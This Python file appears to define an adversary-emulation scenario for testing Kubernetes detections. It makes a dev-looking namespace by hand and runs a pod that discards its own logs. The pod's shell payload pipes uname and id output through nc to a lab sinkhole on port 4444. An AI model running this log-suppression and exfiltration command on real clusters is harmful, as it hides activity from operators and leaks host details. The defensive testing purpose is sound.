"""A namespace named like the developers' ones, made by hand, hosts a pod that throws its output away."""

from __future__ import annotations

import secrets

from lab import Lab, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario


class SelfProvisionedDevNamespace(Scenario):
    id = "kubernetes.logging.self-provisioned-dev-namespace"
    title = "Pod in a hand-made dev-* namespace discards its output while it sends host details out"
    kind = Kind.ADVERSARY
    techniques = ("T1562.001", "T1610", "T1036.005")
    backends = ("kubernetes",)
    expect = Expectation(fires=("stowaway.k8s.logs-hidden",), within_s=20, may_fire={
        "stowaway.net.process-egress-not-allowlisted": "Its pod really sends to the sinkhole on the lab "
                                                       "internet, outside the egress allowlist, which the "
                                                       "node sensor sees from the process.",
    })
    twin = "kubernetes.logging.dev-namespace-minimal"
    forges = ("kubernetes/sanctioned_minimal_logging/dev-namespaces",)
    tags = ("kubernetes", "logging", "defense-evasion")
    description = (
        "Creates a dev-<hex> namespace itself, with the lab's admin kubeconfig (any identity allowed "
        "to create namespaces could), instead of having the platform's deployer provision it. In it, "
        "a pod named like a developer's scratch pod redirects everything it prints to /dev/null and "
        "sends uname and id to the sinkhole's port 4444 three times. The scenario checks the sinkhole "
        "got them and that the pod's log is really empty."
    )

    def detonate(self, lab: Lab) -> None:
        namespace = f"dev-{secrets.token_hex(3)}"
        lab.apply({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": namespace}})
        marker = secrets.token_hex(6)
        payload = (f"exec >/dev/null 2>&1; for i in 1 2 3; do {{ echo {marker}; uname -a; id; }} "
                   f"| nc -w 2 -q 1 {lab.sinkhole.address} 4444; echo sent; sleep 2; done; sleep 60")
        lab.action("run a pod whose output goes to /dev/null in a dev namespace made by hand")
        pod = lab.deploy(WorkloadSpec(role="scratch", command=("sh", "-c", payload),
                                      constraints=(f"namespace={namespace}",)))
        lab.wait_for(lambda: any(marker in r.get("head", "") for r in lab.sinkhole_records()), timeout=30,
                     what="the payload's data to reach the sinkhole")
        logs = lab.kubectl("logs", "-n", namespace, pod.name).output
        if logs.strip():
            raise AssertionError(f"the pod's log was supposed to stay empty: {logs[:200]!r}")
